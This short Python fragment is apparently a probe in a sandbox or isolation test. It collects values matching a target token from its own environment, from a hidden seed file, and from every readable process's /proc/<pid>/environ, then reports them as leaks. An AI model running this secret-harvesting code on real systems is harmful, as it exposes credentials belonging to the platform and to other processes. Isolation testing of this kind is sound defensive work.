# os.environ first, then the installation's secret seed file, then every other
# process's environment this one can see (the worker's own holds the platform's secrets).
own = {k: v for k, v in os.environ.items() if TARGETS["token"] in v}
seen = {}
try:
    with open(TARGETS["seed_file"]) as handle:
        seen["hidden-seed"] = handle.read()
except OSError:
    pass
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                for item in handle.read().split(b"\0"):
                    key, _, value = item.decode(errors="replace").partition("=")
                    seen.setdefault(key, value)
        except OSError:
            pass
report(
    own_env=own,
    leaked={**{k: v for k, v in seen.items() if TARGETS["token"] in v}, **own},
)
